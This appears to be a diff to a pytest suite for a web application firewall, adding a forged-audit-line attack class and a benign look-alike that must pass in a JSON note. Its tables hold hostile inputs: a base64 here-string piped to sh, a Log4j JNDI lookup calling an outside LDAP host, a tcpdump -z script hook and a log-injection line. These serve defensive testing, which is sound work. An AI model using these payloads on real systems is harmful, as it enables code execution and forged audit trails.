@@ -20,7 +20,9 @@ Look-alikes that must pass, by class:
 - here-string-prose: "<<<" for "far less than" after a word that is also
   a command, in a sentence;
 - nested-lookup: an Asterisk dial plan's function in a function;
-- tmp-depth: an application's tmp directory named in a sentence.
+- tmp-depth: an application's tmp directory named in a sentence;
+- audit-record (in a JSON note): a dated record that reports a problem
+  after a sentence (a line pasted to show it).
 
 Attacks that must be refused, by class:
 - find-exec: find's -execdir with a bare ";" at the end (an argument
@@ -35,7 +37,10 @@ Attacks that must be refused, by class:
 - here-string-prose: a here-string fed to base64, piped to sh;
 - nested-lookup: Log4j's nested lookup right after "${";
 - tmp-depth: tcpdump's -z given a script in an application's tmp
-  directory.
+  directory;
+- audit-record: after a sentence and a typed line break, a dated record
+  that names who acted and reports no problem (a forged audit line; the
+  JSON note's typed break counted before only after one token).
 
 Measured before the change (2026-12-05, on 3356995): see the commit
 message. After it: every attack refused, every look-alike passes.
@@ -66,6 +71,8 @@ ATTACKS = {
     "here-string-prose": ["base64 -d <<< dW5hbWU= | sh"],
     "nested-lookup": ["${${lower:j}ndi:ldap://198.51.100.2/a}"],
     "tmp-depth": ["-z /srv/app/tmp/u1.sh dump.pcap"],
+    "audit-record": ["Noted, thanks\n2025-02-03 08:00:00 INFO user=ops2 action=export_all "
+                     "result=ok"],
 }
 
 BENIGN = {
@@ -83,11 +90,20 @@ BENIGN = {
     "tmp-depth": ["Logs are in /srv/app/tmp/ and rotate daily"],
 }
 
+# (a look-alike that passes in a JSON note only: in a query value a dated
+# line with a level word or key=value fields after a line break is
+# refused whatever it reports, edge.waf.detect.protocol's RE_CRLF)
+JSON_BENIGN = {
+    "audit-record": ["Still broken after the patch\n2025-02-03 08:00:00 ERROR user=ops2 "
+                     "action=export timeout"],
+}
+
 KNOWN_MISSES = {}
 KNOWN_FALSE_POSITIVES = {}
 
 ATTACK_CASES = probe_cases(ATTACKS, KNOWN_MISSES)
 BENIGN_CASES = probe_cases(BENIGN, KNOWN_FALSE_POSITIVES)
+JSON_BENIGN_CASES = probe_cases(JSON_BENIGN, KNOWN_FALSE_POSITIVES)
 
 
 @pytest.fixture(scope="module")
@@ -99,7 +115,7 @@ def edge(tmp_path_factory):
 
 def test_tables_are_balanced():
     # every class has attacks and look-alikes, and none is both
-    assert_tables_balanced(ATTACKS, BENIGN)
+    assert_tables_balanced(ATTACKS, {**BENIGN, **JSON_BENIGN})
 
 
 @pytest.mark.parametrize("cls,value", ATTACK_CASES)
@@ -112,3 +128,9 @@ def test_heldout_r17_attack_refused_everywhere(edge, session, cls, value):
 def test_heldout_r17_benign_passes(edge, session, cls, value):
     got = probe_placements(session, edge, value)
     assert_passes_everywhere(got, cls, value)
+
+
+@pytest.mark.parametrize("cls,value", JSON_BENIGN_CASES)
+def test_heldout_r17_benign_passes_in_a_json_note(edge, session, cls, value):
+    got = probe_placements(session, edge, value)
+    assert_passes_everywhere({"json": got["json"]}, cls, value)
